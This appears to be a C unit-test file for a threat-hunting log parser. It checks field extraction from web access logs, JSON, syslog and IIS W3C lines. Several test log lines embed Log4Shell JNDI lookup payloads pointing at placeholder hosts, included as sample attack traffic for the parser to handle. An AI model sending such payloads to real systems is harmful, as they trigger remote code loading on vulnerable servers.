/*
 * test-hunt-fields.c - log-line fields (koban/huntfields.h): Apache/nginx
 * combined and common format (quotes in requests and user agents, IPv6
 * clients, time zones), JSON lines (aliases, ECS nesting, numeric times,
 * escapes, the pair and depth limits), syslog RFC 3164 and 5424 (with a web
 * log inside the message), IIS W3C with the #Fields: header changing
 * mid-file and the column limit, per-file detection with per-line fallback,
 * and the line-length limit. Every field must point into the line.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdbool.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "koban/huntfields.h"

static kb_hunt_fields F;

static int parse(kb_hunt_fields_state *st, const char *line)
{
	return kb_hunt_fields_parse(st, line, strlen(line), &F);
}

/* The field equals `want` (NULL: absent) and lies inside `line`. */
static void field_is(const char *line, kb_hunt_str s, const char *want)
{
	if (!want) {
		assert_null(s.p);
		assert_int_equal(s.len, 0);
		return;
	}
	assert_non_null(s.p);
	assert_true(s.p >= line && s.p + s.len <= line + strlen(line));
	if (s.len != strlen(want) || memcmp(s.p, want, s.len) != 0)
		fail_msg("field \"%.*s\" != \"%s\"", (int)s.len, s.p, want);
}

static void test_combined(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	const char *l = "203.0.113.9 - frank [10/Dec/2021:10:00:00 +0000] \"GET /a?b=c HTTP/1.1\" 200 2326 "
	                "\"http://ref.example/\" \"Mozilla/5.0 (X11)\"";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_CLF);
	field_is(l, F.client, "203.0.113.9");
	field_is(l, F.time, "10/Dec/2021:10:00:00 +0000");
	assert_true(F.has_epoch);
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.method, "GET");
	field_is(l, F.uri, "/a?b=c");
	field_is(l, F.protocol, "HTTP/1.1");
	field_is(l, F.request, "GET /a?b=c HTTP/1.1");
	assert_int_equal(F.status, 200);
	field_is(l, F.referer, "http://ref.example/");
	field_is(l, F.user_agent, "Mozilla/5.0 (X11)");
	assert_int_equal(kb_hunt_fields_state_format(st), KB_LOG_CLF);

	/* common log format, a zone west of UTC */
	l = "10.1.2.3 - - [10/Dec/2021:05:00:00 -0500] \"POST /login HTTP/1.0\" 401 -";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.epoch, 1639130400);
	assert_int_equal(F.status, 401);
	field_is(l, F.user_agent, NULL);
	field_is(l, F.referer, NULL);

	/* IPv6 client, a Log4Shell user agent with Apache's escaped quotes */
	l = "2001:db8::7 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" "
	    "\"${jndi:ldap://x.example/a} \\\"quoted\\\" ua\"";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.client, "2001:db8::7");
	field_is(l, F.referer, "-");
	field_is(l, F.user_agent, "${jndi:ldap://x.example/a} \\\"quoted\\\" ua");

	/* raw quotes inside the request and the user agent, nginx extra field after it */
	l = "198.51.100.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?q=\"${jndi:dns://e.example}\" HTTP/1.1\" 404 0 "
	    "\"-\" \"Mozilla \"X\" Y\" \"10.0.0.1\"";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.uri, "/?q=\"${jndi:dns://e.example}\"");
	assert_int_equal(F.status, 404);
	field_is(l, F.user_agent, "Mozilla \"X\" Y");

	/* a request that is not a request line: no method, still the request */
	l = "198.51.100.4 - - [10/Dec/2021:10:00:00 +0000] \"\\x16\\x03\\x01\" 400 157 \"-\" \"-\"";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.request, "\\x16\\x03\\x01");
	field_is(l, F.method, NULL);
	assert_int_equal(F.status, 400);

	/* not CLF: a bad time, no request */
	assert_int_equal(parse(st, "1.2.3.4 - - [yesterday] \"GET / HTTP/1.1\" 200 1"), 0);
	assert_int_equal(parse(st, "1.2.3.4 - - [10/Dec/2021:10:00:00 +0000]"), 0);
	assert_int_equal(parse(st, "just some text with a ${jndi:ldap://x} in it"), 0);
	kb_hunt_fields_state_free(st);
}

static void test_json(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	const char *l = "{\"time_local\":\"2021-12-10T10:00:00+00:00\",\"remote_addr\":\"192.0.2.5\","
	                "\"request\":\"GET /x?y=${jndi:ldap://a.example/b} HTTP/1.1\",\"status\":200,"
	                "\"http_user_agent\":\"curl\\/7.68 \\\"q\\\"\",\"nested\":{\"a\":[1,{\"b\":\"c\"}]}}";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_JSON);
	field_is(l, F.time, "2021-12-10T10:00:00+00:00");
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.client, "192.0.2.5");
	field_is(l, F.method, "GET");
	field_is(l, F.uri, "/x?y=${jndi:ldap://a.example/b}");
	field_is(l, F.protocol, "HTTP/1.1");
	assert_int_equal(F.status, 200);
	field_is(l, F.user_agent, "curl\\/7.68 \\\"q\\\"");
	/* the raw pairs, located in the line */
	assert_int_equal(F.npairs, 8); /* "b" inside the array too */
	field_is(l, F.pairs[7].key, "b");
	assert_null(F.pairs[7].parent.p);
	field_is(l, F.pairs[4].key, "http_user_agent");
	assert_true(F.pairs[4].escaped);
	field_is(l, F.pairs[5].value, "{\"a\":[1,{\"b\":\"c\"}]}");
	field_is(l, F.pairs[6].key, "a");
	field_is(l, F.pairs[6].parent, "nested");
	assert_int_equal(F.pairs[6].depth, 2);
	char buf[64];
	size_t n = kb_hunt_json_unescape(F.user_agent, buf, sizeof buf);
	assert_int_equal(n, strlen("curl/7.68 \"q\""));
	assert_memory_equal(buf, "curl/7.68 \"q\"", n);

	/* ECS nesting, numeric epoch in milliseconds, upper-case keys */
	l = "{\"@timestamp\":1639130400123,\"source\":{\"ip\":\"2001:db8::1\"},\"url\":{\"original\":\"/a\"},"
	    "\"http\":{\"request\":{\"method\":\"POST\"},\"response\":{\"status_code\":503}},"
	    "\"user_agent\":{\"original\":\"UA\"},\"host\":{\"name\":\"web-01\"}}";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.client, "2001:db8::1");
	field_is(l, F.uri, "/a");
	field_is(l, F.method, "POST");
	assert_int_equal(F.status, 503);
	field_is(l, F.user_agent, "UA");
	field_is(l, F.host, "web-01");
	field_is(l, F.server, NULL);
	l = "{\"server\":{\"address\":\"10.0.0.5\"},\"host\":\"w\",\"uri\":\"/\"}";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.server, "10.0.0.5");
	l = "{\"server_addr\":\"10.0.0.6\"}";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.server, "10.0.0.6");
	l = "{\"Client_IP\":\"10.0.0.9\",\"URL\":\"/u\",\"timestamp\":\"2021-12-10 10:00:00\"}";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.client, "10.0.0.9");
	field_is(l, F.uri, "/u");
	assert_int_equal(F.epoch, 1639130400);

	/* not JSON (or not whole) */
	assert_int_equal(parse(st, "{\"a\":1"), 0);
	assert_int_equal(parse(st, "{\"a\":1} trailing"), 0);
	assert_int_equal(parse(st, "{a:1}"), 0);
	assert_int_equal(parse(st, "{\"a\":\"unterminated}"), 0);
	kb_hunt_fields_state_free(st);
}

static void test_json_limits(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	/* more pairs than kept: the line still parses, later pairs are not kept */
	char line[8192];
	size_t n = (size_t)sprintf(line, "{");
	for (int i = 0; i < KB_HUNT_JSON_MAX_PAIRS + 6; i++)
		n += (size_t)sprintf(line + n, "\"k%d\":%d,", i, i);
	n += (size_t)sprintf(line + n, "\"remote_addr\":\"192.0.2.1\"}");
	assert_int_equal(kb_hunt_fields_parse(st, line, n, &F), 1);
	assert_int_equal(F.npairs, KB_HUNT_JSON_MAX_PAIRS);
	assert_null(F.client.p);
	/* depth: at the limit parses, one deeper does not */
	for (int depth = KB_HUNT_JSON_MAX_DEPTH; depth <= KB_HUNT_JSON_MAX_DEPTH + 1; depth++) {
		n = 0;
		for (int i = 0; i < depth; i++)
			n += (size_t)sprintf(line + n, i == 0 ? "{" : "\"a\":{");
		for (int i = 0; i < depth; i++)
			line[n++] = '}';
		assert_int_equal(kb_hunt_fields_parse(st, line, n, &F), depth <= KB_HUNT_JSON_MAX_DEPTH ? 1 : 0);
	}
	/* unescape: \u escapes, surrogates, errors */
	kb_hunt_str s = { "\\u0024\\u007Bjndi\\ud83d\\ude00\\udc00x", 0 };
	s.len = strlen(s.p);
	char out[32];
	size_t k = kb_hunt_json_unescape(s, out, sizeof out);
	assert_int_equal(k, 2 + 4 + 4 + 3 + 1);
	assert_memory_equal(out, "${jndi\xf0\x9f\x98\x80\xef\xbf\xbdx", k);
	kb_hunt_str bad = { "\\q", 2 };
	assert_int_equal(kb_hunt_json_unescape(bad, out, sizeof out), (size_t)-1);
	kb_hunt_str trunc = { "\\u00", 4 };
	assert_int_equal(kb_hunt_json_unescape(trunc, out, sizeof out), (size_t)-1);
	assert_int_equal(kb_hunt_json_unescape(s, out, 3), (size_t)-1);
	kb_hunt_fields_state_free(st);
}

static void test_syslog(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	const char *l = "<34>Dec  9 22:14:15 mymachine su[123]: 'su root' failed for lonvick on /dev/pts/8";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_SYSLOG3164);
	field_is(l, F.time, "Dec  9 22:14:15");
	assert_false(F.has_epoch);
	field_is(l, F.host, "mymachine");
	field_is(l, F.program, "su");
	field_is(l, F.message, "'su root' failed for lonvick on /dev/pts/8");
	/* as written to a file (no PRI), nginx access log inside */
	l = "Dec 10 10:00:00 web-01 nginx: 192.0.2.7 - - [10/Dec/2021:10:00:00 +0000] \"GET /${jndi:ldap://h/a} HTTP/1.1\" "
	    "200 1 \"-\" \"ua\"";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.host, "web-01");
	field_is(l, F.program, "nginx");
	field_is(l, F.client, "192.0.2.7");
	field_is(l, F.uri, "/${jndi:ldap://h/a}");
	field_is(l, F.user_agent, "ua");
	/* rsyslog high-precision time */
	l = "2021-12-10T11:00:00.123456+01:00 app-02 java[99]: Exception ${jndi:rmi://x}";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_SYSLOG3164);
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.host, "app-02");
	field_is(l, F.program, "java");

	/* RFC 5424 with structured data holding escapes */
	l = "<165>1 2021-12-10T10:00:00.003Z mymachine.example.com evntslog - ID47 "
	    "[exampleSDID@32473 iut=\"3\" eventSource=\"App\\\"] lication\"][x@1 a=\"b\"] \xef\xbb\xbf"
	    "An application event";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_SYSLOG5424);
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.time, "2021-12-10T10:00:00.003Z");
	field_is(l, F.host, "mymachine.example.com");
	field_is(l, F.program, "evntslog");
	field_is(l, F.message, "An application event");
	/* nil values, no message */
	l = "<13>1 - - - - - -";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_SYSLOG5424);
	field_is(l, F.host, NULL);
	assert_false(F.has_epoch);
	/* broken 5424 falls back to nothing */
	assert_int_equal(parse(st, "<13>1 2021-12-10T10:00:00Z host app - - [unterminated"), 0);
	assert_int_equal(parse(st, "<999>Dec 10 10:00:00 h x: y"), 0);
	kb_hunt_fields_state_free(st);
}

static void test_w3c(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	/* no #Fields: yet: a W3C line has no fields */
	const char *l = "2021-12-10 10:00:00 10.0.0.1 GET /a - 443 - 192.0.2.8 Mozilla/5.0 - 200 0 0 15";
	assert_int_equal(parse(st, l), 0);
	assert_int_equal(parse(st, "#Software: Microsoft Internet Information Services 10.0"), 0);
	assert_int_equal(parse(st, "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
	                           "c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"),
	                 0);
	assert_int_equal(kb_hunt_fields_state_format(st), KB_LOG_W3C);
	l = "2021-12-10 10:00:00 10.0.0.1 GET /owa/auth.aspx x=${jndi:ldap://a/b} 443 - 2001:db8::9 "
	    "Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15";
	assert_int_equal(parse(st, l), 1);
	assert_int_equal(F.format, KB_LOG_W3C);
	field_is(l, F.time, "2021-12-10 10:00:00");
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.client, "2001:db8::9");
	field_is(l, F.method, "GET");
	field_is(l, F.uri, "/owa/auth.aspx");
	field_is(l, F.query, "x=${jndi:ldap://a/b}");
	field_is(l, F.user_agent, "Mozilla/5.0+(Windows+NT+10.0)");
	field_is(l, F.referer, NULL);
	assert_int_equal(F.status, 200);
	/* a line with the wrong number of columns */
	assert_int_equal(parse(st, "2021-12-10 10:00:00 10.0.0.1 GET /a"), 0);
	/* the header changes mid-file: other columns, other order */
	assert_int_equal(parse(st, "#Fields: time c-ip cs-method cs-uri-stem sc-status date s-computername s-ip"), 0);
	l = "10:00:00 192.0.2.10 POST /b 500 2021-12-10 IIS-01 10.1.2.3";
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.client, "192.0.2.10");
	field_is(l, F.method, "POST");
	field_is(l, F.time, "10:00:00");
	assert_int_equal(F.epoch, 1639130400);
	field_is(l, F.host, "IIS-01");
	field_is(l, F.server, "10.1.2.3");
	assert_int_equal(F.status, 500);
	/* too many columns: the directive is ignored, the previous one stays */
	char hdr[1024];
	size_t n = (size_t)sprintf(hdr, "#Fields:");
	for (int i = 0; i <= KB_HUNT_W3C_MAX_FIELDS; i++)
		n += (size_t)sprintf(hdr + n, " x-%d", i);
	assert_int_equal(kb_hunt_fields_parse(st, hdr, n, &F), 0);
	assert_int_equal(parse(st, l), 1);
	field_is(l, F.host, "IIS-01");
	kb_hunt_fields_state_free(st);
}

/* A file of one format with stray lines of others; the line limit. */
static void test_detection(void **state)
{
	(void)state;
	kb_hunt_fields_state *st = kb_hunt_fields_state_new();
	assert_int_equal(kb_hunt_fields_state_format(st), KB_LOG_NONE);
	const char *clf = "1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"";
	assert_int_equal(parse(st, clf), 1);
	assert_int_equal(parse(st, "{\"ip\":\"5.6.7.8\"}"), 1);
	assert_int_equal(F.format, KB_LOG_JSON);
	assert_int_equal(parse(st, clf), 1);
	assert_int_equal(F.format, KB_LOG_CLF);
	assert_int_equal(parse(st, "Dec 10 10:00:00 h prog: m"), 1);
	assert_int_equal(F.format, KB_LOG_SYSLOG3164);
	assert_int_equal(parse(st, "\xff\xfe garbage \x80"), 0);
	assert_int_equal(F.format, KB_LOG_NONE);
	assert_int_equal(kb_hunt_fields_parse(st, "", 0, &F), 0);
	/* longer than KB_HUNT_FIELDS_MAX_LINE: no fields */
	size_t big = KB_HUNT_FIELDS_MAX_LINE + 1;
	char *line = malloc(big);
	memcpy(line, clf, strlen(clf));
	memset(line + strlen(clf), 'x', big - strlen(clf));
	line[strlen(clf) - 1] = 'x';
	assert_int_equal(kb_hunt_fields_parse(st, line, big, &F), 0);
	assert_int_equal(kb_hunt_fields_parse(st, line, KB_HUNT_FIELDS_MAX_LINE, &F), 1);
	free(line);
	assert_string_equal(kb_log_format_name(KB_LOG_SYSLOG5424), "syslog5424");
	assert_null(kb_hunt_fields_state_free(NULL));
	kb_hunt_fields_state_free(st);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_combined),
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_json_limits),
		cmocka_unit_test(test_syslog),
		cmocka_unit_test(test_w3c),
		cmocka_unit_test(test_detection),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
